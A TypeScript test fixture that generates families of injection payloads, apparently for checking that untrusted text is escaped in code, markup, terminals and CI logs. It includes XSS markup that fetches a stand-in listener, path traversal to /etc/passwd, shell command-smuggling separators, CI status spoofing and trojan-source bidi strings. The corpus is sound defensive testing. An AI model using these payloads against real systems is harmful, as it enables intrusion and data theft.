/**
 * Texts that would do something where they are put unescaped: into code, markup, a terminal, or the log of a CI system. Attacks put them at the places of a
 * description (`text-places.ts`), into responses, recordings and replies.
 */

/** Code that has run prints this. No payload contains it. */
export const RAN = 'canary ran';
/** Markup and links lead to this address. Nothing may ask for it; an attack on a page replaces it by the address of its listener. */
export const LISTENER = 'http://canary.example.test';

export interface Payload {
  /** The family, and which one of it: `line-breaks/3`. */
  readonly name: string;
  readonly family: string;
  readonly text: string;
}

const [ESC, BEL, CSI, OSC, DCS, ST] = ['\u001b', '\u0007', '\u009b', '\u009d', '\u0090', '\u009c'];

/** Statements that print `RAN`, as each language has them at the top of a file, in a class, or in an expression. */
const CODE = {
  python: `print("canary" + " ran")`,
  go: `func init() { println("canary" + " ran") }`,
  java: `static { System.out.println("canary" + " ran"); }`,
  php: `print('canary' . ' ran');`,
  script: `console.log('canary' + ' ran')`,
  shell: `echo canary" "ran`,
};
const statements = Object.values(CODE);

const LINE_BREAKS = ['\n', '\r', '\r\n', '\u2028', '\u2029', '\u0085', '\v', '\f', '\n\n'];
const QUOTES = ["'", '"', '`', "'''", '"""', '```', '\\', "\\'", '\\"', '\\`', '\u2019', '\u201d', '$$'];
const COMMENT_ENDS = [
  '*/',
  '?>',
  '-->',
  '--!>',
  ']]>',
  '#}',
  '%>',
  '</script>',
  '</style>',
  '<?php',
  '<!--',
  '/*',
];

/** A quote of each kind, and what ends the expression that it stands in, before and after a statement. */
const afterQuotes = QUOTES.flatMap((quote) => [
  quote,
  `x${quote}`,
  ...Object.entries(CODE).map(([language, code]) =>
    language === 'python' ? `${quote}\n${code}\n${quote}` : `${quote}); ${code}; (${quote}`,
  ),
]);

const UNICODE_ESCAPES = [
  ...[
    '\\u000a',
    '\\uuu000a',
    '\\\\u000a',
    '\\u000d',
    '\\u002a\\u002f',
    '\\u0022',
    '\\u{a}',
    '\\x0a',
    '\\012',
  ],
  ...['\\N{LINE FEED}', '\\N{', '\\u', '\\u00', '\\x', '\\U00110000', '%0a', '&#10;'],
];

const FAMILIES: Readonly<Record<string, readonly string[]>> = {
  'line-breaks': LINE_BREAKS.flatMap((end) => [
    `x${end}`,
    `${end}x`,
    ...statements.map((code) => `x${end}${code}${end}`),
    `x${end}   ${CODE.python}${end}#`,
  ]),
  quotes: afterQuotes,
  comments: COMMENT_ENDS.flatMap((end) => [
    end,
    `x ${end} y`,
    ...statements.map((code) => `x ${end} ${code} /*`),
    `x ${end}\n${CODE.php}\n//`,
  ]),
  templates: [
    ...['${', '#{', '{{', '{%', '<%=', '%s%n%x', '{0}', '$(', '@{', '\\(', '$'].map((start) => `${start}x`),
    ...['${', '#{', '{{', '<%= '].map(
      (start) => `${start}${CODE.script}${start.endsWith(' ') ? ' %>' : '}}'}`,
    ),
    `\${globalThis.process?.stdout.write('canary' + ' ran')}`,
    `{$x = ${CODE.php}}`,
    '{__import__("os").system("true")}',
  ],
  'unicode-escapes': UNICODE_ESCAPES.flatMap((written) => [
    `x${written}y`,
    written,
    ...[CODE.java, CODE.python, CODE.script].map((code) => `x${written}${code}${written}//`),
  ]),
  tags: [
    '`x`',
    '`" `json:"y`',
    'x,omitempty',
    'x,string',
    'x"`\nInjected string',
    'x`\n}\nfunc init() { println("canary" + " ran") }\ntype Y struct {\n\tZ string `json:"z',
  ],
  declarations: [
    `x\n\n${CODE.go}\n\nvar Y = 1`,
    `x\n}\n${CODE.java}\n{`,
    `x */ } ${CODE.java} class Y { /*`,
    `x\n#!/usr/bin/env python3\n# -*- coding: rot13 -*-`,
    'x\n//go:build ignore',
    '//go:linkname x y',
    '\n//go:embed /etc/passwd\n',
    'x\n"""\nimport os\n"""',
    `x");} ${CODE.script}; ({a: ("`,
    '# type: ignore\nx',
  ],
  names: [
    ...[
      '__proto__',
      'constructor',
      'toString',
      'hasOwnProperty',
      'prototype',
      '__class__',
      '__init__',
      'this',
    ],
    ...['class', 'def', 'func', 'self', 'null', 'true', 'static', 'echo', 'type', 'default', 'await', 'enum'],
    ...[
      '',
      ' ',
      '.',
      '..',
      '-',
      '_',
      '0',
      '0x',
      '1e3',
      '\u65e5\u672c',
      '\u{1f600}',
      '\u00e9',
      '\ufeff',
      '\u00ad',
    ],
  ],
  terminals: [
    ...[
      `${ESC}[31mred`,
      `${ESC}[2J${ESC}[H`,
      `${ESC}[1A${ESC}[2Kpassed`,
      `${ESC}c`,
      `${ESC}[?1049h`,
      `${ESC}[6n`,
    ],
    ...[
      `${ESC}]0;title${BEL}`,
      `${ESC}]52;c;Y2FuYXJ5${BEL}`,
      `${ESC}]8;;${LISTENER}${ESC}\\link${ESC}]8;;${ESC}\\`,
    ],
    ...[
      `${CSI}31m`,
      `${CSI}2J`,
      `${OSC}0;title${ST}`,
      `${DCS}$q"p${ST}`,
      `${ESC}P+q544e${ESC}\\`,
      `${ESC}_x${ESC}\\`,
    ],
    ...['a\rpassed', 'a\b\b\b', `a${BEL}`, 'a\u0000b', 'a\u007f', '\u000e', '\u0084', 'x\u001b', '\u009f'],
  ],
  'ci-commands': [
    '::error file=x,line=1::canary',
    '::add-mask::a',
    '::stop-commands::canary',
    '::set-output name=x::canary',
    '##[error]canary',
    '##[group]canary',
    '##vso[task.setvariable variable=x]canary',
    '##vso[task.complete result=Succeeded;]',
    "##teamcity[buildStatus status='SUCCESS']",
    "##teamcity[setParameter name='x' value='canary']",
    'section_start:0:canary\r\u001b[0Kcanary',
    'travis_fold:start:canary',
  ].flatMap((command) => [command, `x\n${command}`, `  ${command}`, `x\r${command}`, `x\r\n${command}\r\n`]),
  bidi: [
    ...['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069'],
    ...[
      '\u200e',
      '\u200f',
      '\u061c',
      '\u200b',
      '\u200d',
      '\u2060',
      '\ufeff',
      '\ufff9',
      '\u00ad',
      '\u{e0041}',
    ],
  ].flatMap((control) => [`x${control}y`, `/*${control} } ${control}if (admin)${control} begin */`]),
  surrogates: ['\ud800', '\udc00', 'x\ud83dy', '\ufffe', '\uffff'],
  markup: [
    `<script src="${LISTENER}/script"></script>`,
    `<script>fetch('${LISTENER}/script')</script>`,
    `<img src=x onerror="fetch('${LISTENER}/onerror')">`,
    `<iframe srcdoc="<script>parent.fetch('${LISTENER}/srcdoc')</script>"></iframe>`,
    `<iframe src="javascript:fetch('${LISTENER}/iframe')"></iframe>`,
    `<meta http-equiv="refresh" content="0; url=${LISTENER}/refresh">`,
    `<base href="${LISTENER}/">`,
    `<link rel=stylesheet href="${LISTENER}/sheet">`,
    `<style>@import '${LISTENER}/import'; body { background: url(${LISTENER}/css) }</style>`,
    `<form action="${LISTENER}/form"><input name=key><button>Go</button></form>`,
    `<object data="${LISTENER}/object"></object><embed src="${LISTENER}/embed">`,
    `<svg><script>fetch('${LISTENER}/svg')</script><a href="javascript:fetch('${LISTENER}/a')"><text>x</text></a></svg>`,
    `<svg onload="fetch('${LISTENER}/onload')"><animate onbegin="fetch('${LISTENER}/begin')" attributeName=x dur=1s></svg>`,
    `<math><mtext></p><style><img src=x onerror="fetch('${LISTENER}/math')"></style></mtext></math>`,
    `<noscript><p title="</noscript><img src=x onerror=fetch('${LISTENER}/noscript')>"></noscript>`,
    `<details open ontoggle="fetch('${LISTENER}/toggle')">x</details>`,
    `<video><source onerror="fetch('${LISTENER}/source')"></video>`,
    `<a href="javascript:fetch('${LISTENER}/link')">x</a>`,
    `<div style="position:fixed;inset:0;background:url(${LISTENER}/style)">x</div>`,
    `"><img src=x onerror=fetch('${LISTENER}/attribute')>`,
    `' onmouseover='fetch("${LISTENER}/hover")`,
    `</title><script>fetch('${LISTENER}/title')</script>`,
    `</script><script>fetch('${LISTENER}/closed')</script>`,
    `<!--<script>--><script>fetch('${LISTENER}/comment')</script>`,
    '<b>bold</b>&lt;i&gt;&amp;',
  ],
  markdown: [
    `[x](javascript:fetch('${LISTENER}/link'))`,
    `[x](JaVaScRiPt&colon;fetch('${LISTENER}/entity'))`,
    `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
    `![x](${LISTENER}/image)`,
    `![x]("onerror="fetch('${LISTENER}/image-quote'))`,
    `<javascript:fetch('${LISTENER}/auto')>`,
    `x\n\n# Heading\n\n| a | b |\n|---|---|\n| 1 | 2 |`,
    'x | y | z',
    'x\n```\n<script>\n```\n~~~',
    '- [ ] x\n> y\n***z***__w__~~v~~',
    '---\ntitle: canary\n---',
    `[x]: ${LISTENER}/reference\n[x]`,
    '<!-- x',
  ],
  // The tags of the Markdown that Redoc reads.
  markdoc: [
    `{% html name="iframe" attrs={srcdoc: "<script>parent.fetch('${LISTENER}/tag')</script>"} /%}`,
    `{% html name="meta" attrs={httpEquiv: "refresh", content: "0; url=${LISTENER}/tag-refresh"} %}{% /html %}`,
    `x {% #console-bank .note onclick="fetch('${LISTENER}/annotation')" %}`,
    `[x](/y){% href="javascript:fetch('${LISTENER}/annotated-link')" %}`,
    `"/%}{% html name="iframe" attrs={srcdoc: "<script>parent.fetch('${LISTENER}/tag-end')</script>"} /%}`,
    `\n\`\`\`html {% process=true %}\n{% html name="object" attrs={data: "${LISTENER}/fence"} /%}\n\`\`\``,
    `{% icon rawContent="<img src=x onerror=fetch('${LISTENER}/icon')>" /%}`,
    '{% x',
    '{% /html %}',
    '{% $x.y %}{% f() %}',
  ],
  urls: [
    ...[
      'javascript:alert(1)',
      `//${LISTENER.slice(7)}/x`,
      'file:///etc/passwd',
      'data:text/html,<b>',
      'http://[',
      '%zz',
    ],
    ...[
      '../../../../etc/passwd',
      '..\\..\\x',
      '/etc/passwd',
      'C:\\x',
      'x\u0000.json',
      'a/../../b',
      '%2e%2e%2fx',
      'nul',
    ],
  ],
  spreadsheets: [`=HYPERLINK("${LISTENER}/cell")`, '+1+1', '-1+1', '@SUM(1)', '\t=1'],
  shells: [
    `; ${CODE.shell}`,
    `$(${CODE.shell})`,
    `\`${CODE.shell}\``,
    `| ${CODE.shell}`,
    `\n${CODE.shell}\n`,
    `' ; ${CODE.shell} ; '`,
  ],
  long: ['x'.repeat(5000), 'x '.repeat(5000), '\n'.repeat(500), '"'.repeat(500)],
};

/** All payloads, or those of some families. */
export function payloads(families: readonly string[] = Object.keys(FAMILIES)): Payload[] {
  return families.flatMap((family) => {
    const texts = FAMILIES[family];
    if (texts === undefined) throw new Error(`No family of payloads is called ${family}.`);
    return texts.map((text, index) => ({ name: `${family}/${index}`, family, text }));
  });
}
